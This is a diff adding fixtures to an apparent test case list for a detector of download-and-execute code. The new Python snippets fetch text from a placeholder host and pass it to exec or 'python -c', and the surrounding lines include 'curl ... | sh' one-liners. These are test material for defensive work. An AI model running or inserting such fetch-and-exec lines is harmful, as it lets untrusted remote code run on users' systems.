@@ -110,6 +110,11 @@ CASES = [
                 "import requests\n\nclass Up:\n    def get(self):\n        return requests.get(U).text\n\n"
                 "    def run(self):\n        exec(self.get())\n"
             ),
+            py(
+                "import requests\n\ndef outer():\n    text = requests.get(U).text\n\n"
+                "    def inner():\n        exec(text)\n\n    inner()\n"
+            ),
+            py("import requests\n\ndef run(*, step):\n    exec(step)\n\nrun(step=requests.get(U).text)\n"),
             py(f"import requests\nprint 'old'\nexec requests.get('{HOST}').text\n"),
             py(
                 f"import requests, subprocess\nr = requests.get('{HOST}/a')\n"
@@ -136,6 +141,11 @@ CASES = [
             {"run.sh": f'echo "Usage: bash <(curl -fsSL {HOST}/i.sh) or curl {HOST}/i.sh | bash"\n'},
             {"run.sh": f"#!/bin/sh\n# curl {HOST}/i.sh | sh\ncat <<'EOF'\ncurl {HOST}/i.sh | sh\nEOF\n"},
             {"run.sh": f"curl -fsSL {HOST}/SKILL.md -o SKILL.md\ncat SKILL.md\n"},
+            py(
+                "import requests, subprocess\n\n"
+                "def show():\n    text = requests.get(U).text\n\n"
+                "def build(all):\n    text = '\\n'.join(all)\n    subprocess.run(['python', '-c', text])\n"
+            ),
             sh("iex -S mix phx.server"),
             f"The output of curl {HOST}/v1 | jq is a list.\n",
             {"run.sh": f'curl -s {HOST}/x | while read -r name; do echo "$name"; done\n'},
